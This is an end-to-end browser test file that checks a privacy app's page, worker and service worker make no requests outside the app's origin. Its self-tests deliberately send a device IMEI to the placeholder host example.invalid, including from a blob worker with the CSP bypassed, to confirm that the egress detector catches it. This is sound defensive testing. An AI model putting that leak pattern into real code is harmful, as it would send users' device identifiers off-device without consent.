/**
 * The privacy promise, proven in a real browser: through load, paste, HAR drop and reload, the page, its worker and
 * its service worker contact nothing but the app's own origin, and the CSP is never violated.
 * The second test keeps the detector honest: it makes a cross-origin request on purpose and expects to catch it.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { launchChromium, newContext } from './support/browser';
import { serveBuild, type AppServer } from './support/server';
import { EgressRecorder } from './support/egress';
import {
	byTestId,
	collectPageErrors,
	dropFiles,
	isControlledByServiceWorker,
	openApp,
	pasteAnywhere,
	waitForActiveServiceWorker,
	waitForReady,
	waitForReport
} from './support/app';
import { base64Json, entryCount, sensorsFormBody, smallTrackerHar } from './support/payloads';

let server: AppServer;
let browser: Browser;
let context: BrowserContext | undefined;

beforeAll(async () => {
	[server, browser] = await Promise.all([serveBuild(), launchChromium()]);
});

afterAll(async () => {
	await browser?.close();
	await server?.close();
});

afterEach(async () => {
	await context?.close();
	context = undefined;
});

const LEAK_URL = 'http://example.invalid/leak?imei=490154203237518';

describe('egress', () => {
	test('nothing leaves the machine: load, paste, HAR drop, sample and reload stay on the app origin', async () => {
		context = await newContext(browser);
		const recorder = new EgressRecorder(server.origin);
		await recorder.attach(context);
		const page = await context.newPage();
		const pageErrors = collectPageErrors(page);
		const workerUrls: string[] = [];
		page.on('worker', (worker) => workerUrls.push(worker.url()));

		await openApp(page, server.origin);
		await waitForActiveServiceWorker(page);

		// A payload full of third-party URLs: decoding it must not fetch any of them.
		await pasteAnywhere(
			page,
			sensorsFormBody([
				{ distinct_id: 'egress-1', properties: { $url: 'https://tracker.example.test/pixel.gif', $referrer: 'https://cdn.example.test/x.js' } }
			])
		);
		await waitForReport(page);

		const har = smallTrackerHar();
		await dropFiles(page, [{ name: 'capture.har', content: har, type: 'application/json' }]);
		await expect.poll(() => byTestId(page, 'exchange-row').count(), { timeout: 30_000 }).toBe(entryCount(har));

		await byTestId(page, 'try-sample').click();
		await expect.poll(() => byTestId(page, 'exchange-row').filter({ hasText: 'miui.com' }).count(), { timeout: 30_000 }).toBeGreaterThan(0);

		// After the reload the service worker serves the page: its traffic is judged too.
		await page.reload();
		await waitForReady(page);
		expect(await isControlledByServiceWorker(page)).toBe(true);
		await pasteAnywhere(page, base64Json({ after: 'reload', link: 'https://ads.example.test/track' }));
		await waitForReport(page);
		await page.waitForTimeout(500);

		// The witnesses were really watching: page, worker script and service worker traffic were all seen.
		expect(recorder.requests.length).toBeGreaterThan(5);
		expect(recorder.requests.some((request) => request.fromServiceWorker), 'service-worker requests recorded').toBe(true);
		expect(workerUrls.length, 'the analysis worker started').toBeGreaterThan(0);
		expect(recorder.requests.some((request) => workerUrls.includes(request.url)), 'worker script request recorded').toBe(true);

		expect(recorder.problems()).toEqual([]);
		expect(pageErrors).toEqual([]);
	});

	test('self-test: a cross-origin request from the page is caught (CSP violation)', async () => {
		context = await newContext(browser, { serviceWorkers: 'block' });
		const recorder = new EgressRecorder(server.origin);
		await recorder.attach(context);
		const page = await context.newPage();
		await openApp(page, server.origin);
		expect(recorder.problems()).toEqual([]);

		const outcome = await page.evaluate((url) => fetch(url).then(() => 'sent', () => 'refused'), LEAK_URL);
		expect(outcome).toBe('refused');
		await expect
			.poll(() => recorder.violations.filter((violation) => violation.source.startsWith('securitypolicyviolation')).length)
			.toBeGreaterThan(0);
		expect(recorder.problems().join('\n')).toContain('example.invalid');
		expect(() => recorder.assertNoEgress()).toThrow(/example\.invalid/);
	});

	test('self-test: with the CSP bypassed, page and worker requests are caught and aborted before they leave', async () => {
		context = await newContext(browser, { serviceWorkers: 'block', bypassCSP: true });
		const recorder = new EgressRecorder(server.origin);
		await recorder.attach(context);
		const page = await context.newPage();
		await openApp(page, server.origin);

		const outcome = await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent', () => 'refused'), LEAK_URL);
		expect(outcome).toBe('refused');
		expect(recorder.violations).toEqual([]);
		expect(recorder.foreign.map((request) => request.url)).toEqual([LEAK_URL]);
		expect(recorder.problems()).toEqual([expect.stringContaining(`request to another origin: GET ${LEAK_URL}`)]);
		expect(() => recorder.assertNoEgress()).toThrow(/example\.invalid/);

		// A worker's requests are not covered by the page's CSP: the route must see them too.
		const workerLeak = `${LEAK_URL}&from=worker`;
		await page.evaluate((url) => {
			const source = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).catch(() => {}).finally(() => postMessage('done'));`;
			const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
			return new Promise((resolve) => (worker.onmessage = resolve));
		}, workerLeak);
		await expect.poll(() => recorder.foreign.map((request) => request.url)).toContain(workerLeak);
	});
});
